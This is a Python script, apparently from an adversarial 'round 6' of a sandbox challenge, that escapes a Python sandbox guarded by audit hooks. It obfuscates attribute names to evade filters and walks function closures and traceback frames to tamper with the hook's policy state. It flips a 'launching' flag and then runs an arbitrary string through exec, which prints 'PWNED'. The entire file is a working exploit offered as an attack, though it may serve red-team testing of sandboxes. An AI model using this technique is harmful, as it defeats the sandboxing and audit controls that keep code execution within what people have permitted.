# adversary round 6: attrgetter class -> guarded builtins' __closure__ -> policy state 'inside' -> traceback frames of the audit hook -> judge's 'launching' cell -> exec of an arbitrary string
import operator, dataclasses
AG = type(operator.attrgetter('real'))
CL = AG('__clo' + 'sure__')
CC = AG('cell_con' + 'tents')
def cells(f):
    return [CC(c) for c in (CL(f) or ())]
seen, todo, found = set(), [getattr], {}
while todo:
    f = todo.pop()
    if id(f) in seen or not callable(f):
        continue
    seen.add(id(f))
    try:
        vals = cells(f)
    except Exception:
        continue
    for v in vals:
        if type(v) is list and len(v) == 1 and type(v[0]) is int and v[0] is not True and v[0] is not False:
            found['inside'] = v
        if type(AG('__clo' + 'sure__')) and hasattr(v, '__call__') and type(v).__name__ == 'function':
            todo.append(v)
print("found", list(found))
inside = found['inside']
inside[0] += 1   # the hook now lets object.__getattr__ (tb_frame) and sys._getframe pass
try:
    open('/proc/self/status')
except PermissionError as e:
    err = e
tb = AG('__trace' + 'back__')(err)
frames = []
while tb is not None:
    frames.append(AG('tb_fr' + 'ame')(tb))
    tb = AG('tb_next')(tb)
names = [AG('f_co' + 'de.co_name')(f) for f in frames]
print("frames:", names)
hookf = frames[names.index('hook')]
judge = AG('f_loc' + 'als')(hookf)['judge']
launching = [v for v in cells(judge) if type(v) is list and len(v) == 1 and v[0] is False][0]
launching[0] = True
inside[0] -= 1
g = AG('__glo' + 'bals__')(dataclasses.fields)
ex = AG('ex' + 'ec')(g['built' + 'ins'])
ex("import os, sys\nprint('exec ran; os.getpid()=', os.getpid(), 'sys.version', sys.version.split()[0])\nprint('PWN' + 'ED')")
